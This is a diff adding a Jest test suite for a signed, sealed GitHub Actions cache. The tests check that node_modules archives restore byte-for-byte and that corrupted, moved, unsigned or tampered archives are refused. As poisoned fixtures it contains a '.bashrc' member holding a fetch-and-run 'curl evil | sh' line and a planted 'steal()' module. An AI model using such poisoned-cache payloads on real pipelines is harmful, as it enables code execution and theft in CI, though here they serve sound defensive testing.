@@ -1,0 +1,382 @@
+/**
+ * The sealed cache actions (cache/, cache/restore/, cache/save/) as the runner runs them: the
+ * bundled steps on node24, `INPUT_*` from each action.yml, main then post with the state the main
+ * step saved, against the loopback Actions cache service. Each damage an archive can carry is made
+ * real (the service's stored blob truncated, a forged archive with one byte changed, a seal made by
+ * a job without the key, an archive moved under another key, a member outside the sealed paths),
+ * and each must be a clean miss with its reason and nothing written outside scratch.
+ */
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
+import { execFileSync } from 'node:child_process'
+import { createHash } from 'node:crypto'
+import fs from 'node:fs'
+import os from 'node:os'
+import path from 'node:path'
+import { makeRepo, NODES, type ActionRepo } from '../../__fixtures__/action.js'
+import {
+  runStepOn,
+  snapshotBundles,
+  stepCacheEnv,
+  type Bundles,
+  type StepRun
+} from '../../__fixtures__/cache-run.js'
+import { startCacheServer, type CacheServer } from '../../__fixtures__/cache-server.js'
+import { tarZst, type TarMember } from '../../__fixtures__/tar-build.js'
+
+const NODE24 = NODES[0]!.bin
+const ROOT = path.resolve(import.meta.dirname, '../..')
+const YML = {
+  cache: path.join(ROOT, 'cache', 'action.yml'),
+  restore: path.join(ROOT, 'cache', 'restore', 'action.yml'),
+  save: path.join(ROOT, 'cache', 'save', 'action.yml')
+}
+const HMAC = 'a'.repeat(64)
+const OTHER_HMAC = 'b'.repeat(64)
+
+let server: CacheServer
+let bundles: Bundles
+let tmp: string
+
+beforeAll(async () => {
+  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'swr-sealed-'))
+  bundles = snapshotBundles(tmp)
+  server = await startCacheServer()
+}, 120_000)
+
+afterAll(async () => {
+  await server.close()
+  fs.rmSync(tmp, { recursive: true, force: true })
+})
+
+/** A node_modules-like tree: nested packages, an executable, a link, an empty file. */
+function install(root: string, variant = 'v1'): void {
+  const nm = path.join(root, 'node_modules')
+  fs.mkdirSync(path.join(nm, '.bin'), { recursive: true })
+  for (const pkg of ['ms', 'esbuild', '@scope/a']) {
+    const dir = path.join(nm, pkg)
+    fs.mkdirSync(path.join(dir, 'lib'), { recursive: true })
+    fs.writeFileSync(
+      path.join(dir, 'package.json'),
+      JSON.stringify({ name: pkg, version: variant })
+    )
+    fs.writeFileSync(
+      path.join(dir, 'lib', 'index.js'),
+      `module.exports = '${pkg} ${variant}'\n`.repeat(50)
+    )
+  }
+  fs.writeFileSync(path.join(nm, 'esbuild', 'bin'), '#!/bin/sh\necho esbuild\n', { mode: 0o755 })
+  fs.chmodSync(path.join(nm, 'esbuild', 'bin'), 0o755)
+  fs.writeFileSync(path.join(nm, 'ms', 'empty'), '')
+  fs.symlinkSync('../esbuild/bin', path.join(nm, '.bin', 'esbuild'))
+}
+
+/** Every path below `dir` with its type, mode, size and sha256 (or link target). */
+function state(dir: string): string[] {
+  const out: string[] = []
+  const walk = (d: string, rel: string): void => {
+    for (const name of fs.readdirSync(d).sort()) {
+      const abs = path.join(d, name)
+      const r = rel ? `${rel}/${name}` : name
+      const st = fs.lstatSync(abs)
+      if (st.isSymbolicLink()) out.push(`${r} l ${fs.readlinkSync(abs)}`)
+      else if (st.isDirectory()) {
+        out.push(`${r} d ${(st.mode & 0o7777).toString(8)}`)
+        walk(abs, r)
+      } else
+        out.push(
+          `${r} f ${(st.mode & 0o7777).toString(8)} ${createHash('sha256').update(fs.readFileSync(abs)).digest('hex')}`
+        )
+    }
+  }
+  walk(dir, '')
+  return out
+}
+
+function step(
+  script: string,
+  repo: ActionRepo,
+  yml: string,
+  inputs: Record<string, string>,
+  st: Record<string, string> = {}
+): Promise<StepRun> {
+  return runStepOn(NODE24, script, repo, {
+    actionYml: yml,
+    inputs,
+    state: st,
+    env: stepCacheEnv(server, repo)
+  })
+}
+
+function report(r: StepRun): {
+  outcome: string
+  reason: string | null
+  matched_key: string | null
+  signed_by: string[]
+  restored: boolean
+  wipe_signature: string
+} {
+  return JSON.parse(r.outputs.report ?? '{}')
+}
+
+/** A job of the `cache` action: main, then (when it succeeded and `build` ran) post. */
+async function job(
+  repo: ActionRepo,
+  inputs: Record<string, string>,
+  build?: () => void
+): Promise<{ main: StepRun; post: StepRun }> {
+  const main = await step(bundles.cacheMain, repo, YML.cache, inputs)
+  build?.()
+  const post = await step(bundles.cachePost, repo, YML.cache, inputs, main.state)
+  return { main, post }
+}
+
+/** Nothing but the scratch base itself is left in RUNNER_TEMP by a refused restore. */
+function leftInTemp(repo: ActionRepo): string[] {
+  return fs.readdirSync(repo.runnerTemp).filter(n => n.startsWith('swr-'))
+}
+
+/**
+ * A fresh runner's workspace. Every job shares one RUNNER_TEMP path, emptied first, as the jobs of
+ * one runner image do (the seal's absolute spelling is part of the cache version).
+ */
+function freshRepo(): ActionRepo {
+  const repo = makeRepo()
+  fs.rmSync(sharedTemp(), { recursive: true, force: true })
+  fs.mkdirSync(sharedTemp(), { recursive: true })
+  return { ...repo, runnerTemp: sharedTemp() }
+}
+
+function sharedTemp(): string {
+  return path.join(tmp, 'runner-temp')
+}
+
+/** The seal member of a stored archive, read with the system's zstd and tar. */
+function sealOf(key: string): Buffer {
+  const blob = server.blobPath(key)
+  const tar = execFileSync('zstd', ['-d', '-c', blob])
+  return execFileSync('tar', ['-xOP', '--wildcards', '*swr-seal/seal.json'], { input: tar })
+}
+
+/** A tree's members for a hand-built archive, named as the cache client names them. */
+function membersOf(dir: string, prefix: string): TarMember[] {
+  const out: TarMember[] = [
+    { name: `${prefix}/`, type: 'dir', mode: fs.statSync(dir).mode & 0o7777 }
+  ]
+  const walk = (d: string, rel: string): void => {
+    for (const name of fs.readdirSync(d).sort()) {
+      const abs = path.join(d, name)
+      const r = `${rel}/${name}`
+      const st = fs.lstatSync(abs)
+      if (st.isSymbolicLink()) out.push({ name: r, type: 'symlink', target: fs.readlinkSync(abs) })
+      else if (st.isDirectory()) {
+        out.push({ name: `${r}/`, type: 'dir', mode: st.mode & 0o7777 })
+        walk(abs, r)
+      } else out.push({ name: r, data: fs.readFileSync(abs), mode: st.mode & 0o7777 })
+    }
+  }
+  walk(dir, prefix)
+  return out
+}
+
+/** The seal's name in archives of the jobs below (workspaces lie at the same depth). */
+function sealName(repo: ActionRepo): string {
+  return path.relative(repo.root, path.join(sharedTemp(), 'swr-seal', 'seal.json'))
+}
+
+describe('the sealed cache action over a project life', () => {
+  const base = { path: 'node_modules', 'hmac-key': HMAC }
+
+  it('a miss installs and seals; a fresh runner restores every byte; a damaged tree on disk is named and healed', async () => {
+    const a = freshRepo()
+    const first = await job(a, { ...base, key: 'deps-linux-1' }, () => install(a.root))
+    expect(first.main.code).toBe(0)
+    expect(first.main.outputs['cache-hit']).toBe('false')
+    expect(report(first.main).outcome).toBe('miss')
+    expect(first.post.code).toBe(0)
+    expect(first.post.stdout).toMatch(
+      /sealed \d+ files \(signed by hmac [0-9a-f]{16}\) and saved them under key deps-linux-1/
+    )
+    expect(leftInTemp(a)).toEqual([])
+
+    const b = freshRepo()
+    const second = await job(b, { ...base, key: 'deps-linux-1' })
+    expect(second.main.code).toBe(0)
+    expect(second.main.outputs['cache-hit']).toBe('true')
+    expect(second.main.outputs['cache-matched-key']).toBe('deps-linux-1')
+    expect(second.main.outputs.healthy).toBe('true')
+    expect(second.main.outputs['wipe-signature']).toBe('cold-start')
+    expect(report(second.main).signed_by[0]).toMatch(/^hmac /)
+    expect(state(path.join(b.root, 'node_modules'))).toEqual(
+      state(path.join(a.root, 'node_modules'))
+    )
+    expect(second.post.stdout).toMatch(/cache hit on the primary key deps-linux-1: not saving/)
+
+    // Kept by the runner, intact: only the seal is read. Then an exec bit stripped: named, healed.
+    const again = await step(bundles.cacheRestore, b, YML.restore, { ...base, key: 'deps-linux-1' })
+    expect(again.outputs['cache-hit']).toBe('true')
+    expect(report(again).restored).toBe(false)
+    fs.chmodSync(path.join(b.root, 'node_modules/esbuild/bin'), 0o644)
+    const healed = await step(bundles.cacheRestore, b, YML.restore, {
+      ...base,
+      key: 'deps-linux-1'
+    })
+    expect(healed.outputs['wipe-signature']).toBe('permission-reset')
+    expect(report(healed).restored).toBe(true)
+    expect(state(path.join(b.root, 'node_modules'))).toEqual(
+      state(path.join(a.root, 'node_modules'))
+    )
+  }, 180_000)
+
+  it('a dependency bump restores the older seal as stale, names both keys, and saves the new state', async () => {
+    const a = freshRepo()
+    await job(a, { ...base, key: 'bump-lock1' }, () => install(a.root, 'v1'))
+    const b = freshRepo()
+    const inputs = { ...base, key: 'bump-lock2', 'restore-keys': 'bump-' }
+    const bumped = await job(b, inputs, () => {
+      fs.rmSync(path.join(b.root, 'node_modules'), { recursive: true })
+      install(b.root, 'v2')
+    })
+    expect(bumped.main.outputs['cache-hit']).toBe('false')
+    expect(bumped.main.outputs.stale).toBe('true')
+    expect(bumped.main.outputs['cache-matched-key']).toBe('bump-lock1')
+    expect(bumped.main.stdout).toMatch(
+      /STALE: restored from key bump-lock1, not the primary key bump-lock2/
+    )
+    expect(bumped.post.stdout).toMatch(/saved them under key bump-lock2/)
+    const c = freshRepo()
+    const next = await step(bundles.cacheRestore, c, YML.restore, { ...base, key: 'bump-lock2' })
+    expect(next.outputs['cache-hit']).toBe('true')
+    expect(fs.readFileSync(path.join(c.root, 'node_modules/ms/package.json'), 'utf8')).toMatch(/v2/)
+  }, 180_000)
+})
+
+describe('damaged and hostile archives are a clean miss with the reason, nothing written', () => {
+  const base = { path: 'node_modules', 'hmac-key': HMAC }
+  let saved: ActionRepo
+
+  beforeAll(async () => {
+    saved = freshRepo()
+    install(saved.root)
+    for (const key of ['dmg-truncate', 'dmg-flip', 'dmg-byte', 'dmg-moved', 'dmg-inject'])
+      expect((await step(bundles.cacheSave, saved, YML.save, { ...base, key })).code).toBe(0)
+  }, 180_000)
+
+  async function refused(key: string, inputs: Record<string, string> = base): Promise<StepRun> {
+    const r = freshRepo()
+    const run = await step(bundles.cacheRestore, r, YML.restore, { ...inputs, key })
+    expect(run.code).toBe(0)
+    expect(run.outputs['cache-hit']).toBe('false')
+    expect(run.outputs.healthy).toBe('false')
+    expect(report(run).outcome).toBe('refused')
+    expect(fs.existsSync(path.join(r.root, 'node_modules'))).toBe(false)
+    expect(leftInTemp(r)).toEqual([])
+    return run
+  }
+
+  it('a truncated archive', async () => {
+    server.corrupt('dmg-truncate', 'truncate')
+    const run = await refused('dmg-truncate')
+    expect(report(run).reason).toMatch(/truncated|corrupt/)
+  }, 60_000)
+
+  it('a flipped block of the compressed archive', async () => {
+    server.corrupt('dmg-flip', 'flip')
+    await refused('dmg-flip')
+  }, 60_000)
+
+  it('one same-size byte changed in one file, the seal kept', async () => {
+    const seal = sealOf('dmg-byte')
+    const members = membersOf(path.join(saved.root, 'node_modules'), 'node_modules').map(m =>
+      m.name === 'node_modules/ms/lib/index.js' && 'data' in m && Buffer.isBuffer(m.data)
+        ? { ...m, data: Buffer.from(m.data.toString('utf8').replace('ms v1', 'ms V1')) }
+        : m
+    )
+    server.poison(
+      'dmg-byte',
+      tarZst([{ name: sealName(saved), data: seal, mode: 0o600 }, ...members])
+    )
+    const run = await refused('dmg-byte')
+    expect(report(run).reason).toMatch(
+      /ms\/lib\/index\.js: content differs from the recorded sha256/
+    )
+  }, 60_000)
+
+  it('an archive and seal moved under another key', async () => {
+    server.poison('dmg-moved', fs.readFileSync(server.blobPath('dmg-inject')))
+    const run = await refused('dmg-moved')
+    expect(report(run).reason).toMatch(/made for key dmg-inject, not dmg-moved/)
+  }, 60_000)
+
+  it('a member outside the sealed paths', async () => {
+    const seal = sealOf('dmg-inject')
+    const members = membersOf(path.join(saved.root, 'node_modules'), 'node_modules')
+    server.poison(
+      'dmg-inject',
+      tarZst([
+        { name: sealName(saved), data: seal, mode: 0o600 },
+        ...members,
+        { name: '.bashrc', data: 'curl evil | sh\n' }
+      ])
+    )
+    const run = await refused('dmg-inject')
+    expect(report(run).reason).toMatch(/member outside the sealed paths: \.bashrc/)
+  }, 60_000)
+
+  it('an unsealed archive (a plain tar of the paths)', async () => {
+    const r = freshRepo()
+    install(r.root)
+    expect((await step(bundles.cacheSave, r, YML.save, { ...base, key: 'dmg-plain' })).code).toBe(0)
+    server.poison('dmg-plain', tarZst(membersOf(path.join(r.root, 'node_modules'), 'node_modules')))
+    const run = await refused('dmg-plain')
+    expect(report(run).reason).toMatch(/no seal/)
+  }, 60_000)
+
+  it('require-seal signed: a seal made by a job without the key, or with another key, is refused', async () => {
+    const poisoner = freshRepo()
+    install(poisoner.root)
+    fs.writeFileSync(
+      path.join(poisoner.root, 'node_modules/ms/lib/index.js'),
+      'module.exports = () => steal()\n'
+    )
+    await step(bundles.cacheSave, poisoner, YML.save, { path: 'node_modules', key: 'pr-unsigned' })
+    await step(bundles.cacheSave, poisoner, YML.save, {
+      path: 'node_modules',
+      key: 'pr-other',
+      'hmac-key': OTHER_HMAC
+    })
+    expect(report(await refused('pr-unsigned')).reason).toMatch(
+      /the seal is unsigned, and require-seal is signed/
+    )
+    expect(report(await refused('pr-other')).reason).toMatch(/signed by no key this job trusts/)
+    // Without any key the gate asks only for a seal: the same archive restores (and says unsigned).
+    const open = freshRepo()
+    const any = await step(bundles.cacheRestore, open, YML.restore, {
+      path: 'node_modules',
+      key: 'pr-unsigned'
+    })
+    expect(any.outputs['cache-hit']).toBe('true')
+    expect(any.stdout).toMatch(/unsigned or by no key this job knows/)
+  }, 120_000)
+})
+
+describe('inputs', () => {
+  it('a glob, a missing key and a bad require-seal are one line each, nothing written', async () => {
+    const r = freshRepo()
+    for (const [inputs, line] of [
+      [{ path: 'node_modules/**', key: 'k' }, /input|path "node_modules\/\*\*": a glob/],
+      [{ path: 'node_modules', key: '' }, /input key: required/],
+      [
+        { path: 'node_modules', key: 'k', 'require-seal': 'signed' },
+        /require-seal: signed needs hmac-key/
+      ]
+    ] as const) {
+      const run = await step(bundles.cacheRestore, r, YML.restore, inputs)
+      expect(run.code).toBe(1)
+      const errors = run.commands.filter(c => c.command === 'error')
+      expect(errors).toHaveLength(1)
+      expect(errors[0]?.message).toMatch(line)
+      expect(run.stderr).not.toMatch(/\n\s+at /)
+    }
+    expect(fs.readdirSync(r.root).filter(n => n !== '.swr')).toEqual([])
+  }, 60_000)
+})
